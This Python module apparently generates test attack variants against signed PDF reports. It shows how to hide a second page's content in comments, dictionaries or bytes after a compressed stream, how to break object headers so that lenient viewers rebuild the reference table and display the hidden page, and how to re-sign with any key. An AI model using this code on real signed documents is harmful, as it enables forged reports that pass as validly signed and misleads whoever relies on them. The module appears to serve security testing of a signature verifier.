"""Other bytes for the same objects: forms of a report's file that a forgiving reader takes for the file itself, while a
viewer that rebuilds the table of references finds a page in them that nobody issued. Signed anew by whom one likes."""
import asyncio
import hashlib
import io
import re
import zlib

import pikepdf
from asn1crypto import keys, pem, x509 as asn1_x509
from pyhanko.sign import signers
from pyhanko_certvalidator.registry import SimpleCertificateStore

from attacks import BYTE_RANGE


def signer(certificate_pem, key_pem):
    """A signer by PEM: its certificate, then those of its issuers."""
    chain = [asn1_x509.Certificate.load(der) for _, _, der in pem.unarmor(certificate_pem, multiple=True)]
    store = SimpleCertificateStore()
    store.register_multiple(chain[1:])
    key = keys.PrivateKeyInfo.load(pem.unarmor(key_pem)[2])
    return signers.SimpleSigner(signing_cert=chain[0], signing_key=key, cert_registry=store)


class Parts:
    """The objects of a file that `renderPDF` wrote, as they stand in it, to be put together again with changes."""

    def __init__(self, pdf):
        self.size = len(pdf)
        start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
        self.table_dictionary, packed = re.match(
            rb"\d+ 0 obj\n(<<.*?>>)\nstream\n(.*)\nendstream", pdf[start:], re.S).groups()
        self.table_number = int(pdf[start:start + 10].split()[0])
        rows = self.unpredicted(zlib.decompress(packed))
        self.rows = [(row[0], int.from_bytes(row[1:4], "big"), int.from_bytes(row[4:6], "big")) for row in rows]
        offsets = sorted((offset, number) for number, (kind, offset, _) in enumerate(self.rows) if kind == 1)
        ends = [offset for offset, _ in offsets[1:]] + [start]
        self.head = pdf[:offsets[0][0]]
        self.objects = {
            number: pdf[offset:end] for (offset, number), end in zip(offsets, ends) if number != self.table_number}
        # What stands before an object, and is none.
        self.before = {}

    @staticmethod
    def unpredicted(data):
        """PNG's predictor 2 over rows of 6 bytes: ISO 32000-1, 7.4.4.4."""
        rows, last = [], bytes(6)
        for place in range(0, len(data), 7):
            assert data[place] == 2
            last = bytes((a + b) & 255 for a, b in zip(last, data[place + 1:place + 7]))
            rows.append(last)
        return rows

    def file(self, by):
        """The file, its references right, signed by a signer; of another length than the genuine one, since in a file of the
        same length the /ByteRange must be the same too."""
        files = (self.unsigned(level) for level in (-1, 1, 0))
        return signed(next(file for file in files if len(file) != self.size), by)

    def unsigned(self, level):
        output, rows = bytearray(self.head), list(self.rows)
        for number, text in self.objects.items():
            output += self.before.get(number, b"")
            rows[number] = (1, len(output), 0)
            output += text
        start = len(output)
        if rows[self.table_number][0] == 1:
            rows[self.table_number] = (1, start, 0)
        raw = [bytes([kind]) + offset.to_bytes(3, "big") + rest.to_bytes(2, "big") for kind, offset, rest in rows]
        packed = zlib.compress(b"".join(
            b"\2" + bytes((b - a) & 255 for a, b in zip(before, row)) for before, row in zip([bytes(6), *raw], raw)), level)
        dictionary = re.sub(rb"/Length \d+", b"/Length %d" % len(packed), self.table_dictionary)
        output += b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
            self.table_number, dictionary, packed, start)
        return bytes(output)


def signed(pdf, by):
    """With a signature by somebody else in the place of the first one, and a /ByteRange that is right."""
    found = BYTE_RANGE.search(pdf)
    gap = pdf.index(b"<", found.end())
    end = pdf.index(b">", gap) + 1
    wanted = f"/ByteRange[0 {gap} {end} {len(pdf) - end}".encode().ljust(len(found[0]) - 1) + b"]"
    pdf = pdf[:found.start()] + wanted + pdf[found.end():]
    digest = hashlib.sha256(pdf[:gap] + pdf[end:]).digest()
    cms = asyncio.run(by.async_sign(digest, "sha256", use_pades=True)).dump().hex().encode()
    assert len(cms) <= end - gap - 2
    return pdf[:gap + 1] + cms.ljust(end - gap - 2, b"0") + pdf[end - 1:]


def first_page(pdf):
    """The number of the first page's object, of its contents, and of the second page's contents."""
    with pikepdf.open(io.BytesIO(pdf)) as document:
        pages = document.pages
        return pages[0].objgen[0], pages[0].Contents.objgen[0], pages[1].Contents.objgen[0]


def hidden_page(pdf):
    """An object of the first page's number, which shows what the second page shows. In one line, without a line's end."""
    page, own, other = first_page(pdf)
    text = Parts(pdf).objects[page].replace(b"/Contents %d 0 R" % own, b"/Contents %d 0 R" % other)
    return page, b" ".join(text.split())


def broken_reference(parts, number):
    """An object whose number and `obj` some readers do not tell apart, so that they look for all objects anew."""
    parts.objects[number] = parts.objects[number].replace(b"%d 0 obj" % number, b"%d 0obj" % number, 1)


def without_a_space(pdf, by):
    """`8 0obj`, and nothing else."""
    parts = Parts(pdf)
    broken_reference(parts, first_page(pdf)[1])
    return parts.file(by)


def comment_in_a_dictionary(pdf, by):
    parts, (page, text) = Parts(pdf), hidden_page(pdf)
    broken_reference(parts, first_page(pdf)[1])
    last = max(number for number, body in parts.objects.items() if body.startswith(b"%d 0 obj\n<<\n/Type /Font" % number))
    parts.objects[last] = parts.objects[last].replace(b"<<\n", b"<<%" + text + b"\n", 1)
    return parts.file(by)


def comment_before_an_object(pdf, by):
    parts, (page, text) = Parts(pdf), hidden_page(pdf)
    broken_reference(parts, first_page(pdf)[1])
    last = list(parts.objects)[-1]
    parts.objects[last] = parts.objects[last].replace(b"%d 0 obj\n" % last, b"%d 0 %%%s\nobj\n" % (last, text), 1)
    return parts.file(by)


def comment_before_the_end_of_a_stream(pdf, by):
    parts, (page, text) = Parts(pdf), hidden_page(pdf)
    broken_reference(parts, first_page(pdf)[1])
    last = [number for number, body in parts.objects.items() if b"\nendstream" in body][-1]
    parts.objects[last] = parts.objects[last].replace(b"\nendstream", b"\n%" + text + b"\nendstream", 1)
    return parts.file(by)


def bytes_after_a_compressed_stream(pdf, by):
    """What no decoder asks for, behind the checksum at a compressed stream's end."""
    parts, (page, text) = Parts(pdf), hidden_page(pdf)
    broken_reference(parts, first_page(pdf)[1])
    number = first_page(pdf)[2]
    hidden = b"\nendstream\nendobj\n" + text + b"\n"
    length = int(re.search(rb"/Length (\d+)", parts.objects[number])[1])
    parts.objects[number] = parts.objects[number].replace(
        b"/Length %d" % length, b"/Length %d" % (length + len(hidden)), 1).replace(
        b"\nendstream", hidden + b"\nendstream", 1)
    return parts.file(by)


def wrong_size(pdf, by):
    """A table of references that says of itself that it is shorter."""
    parts = Parts(pdf)
    size = len(parts.rows)
    parts.table_dictionary = re.sub(rb"/Size \d+", b"/Size 9\n/Index [ 0 %d ]" % size, parts.table_dictionary)
    return parts.file(by)


def other_compression(pdf, by):
    """The same page, packed otherwise."""
    parts, number = Parts(pdf), first_page(pdf)[1]
    dictionary, packed = re.match(rb"(.*?)stream\n(.*)\nendstream", parts.objects[number], re.S).groups()
    again = zlib.compress(zlib.decompress(packed), 1)
    parts.objects[number] = parts.objects[number].replace(packed, again).replace(
        b"/Length %d" % len(packed), b"/Length %d" % len(again), 1)
    return parts.file(by)


FORMS = (without_a_space, comment_in_a_dictionary, comment_before_an_object, comment_before_the_end_of_a_stream,
         bytes_after_a_compressed_stream, wrong_size, other_compression)
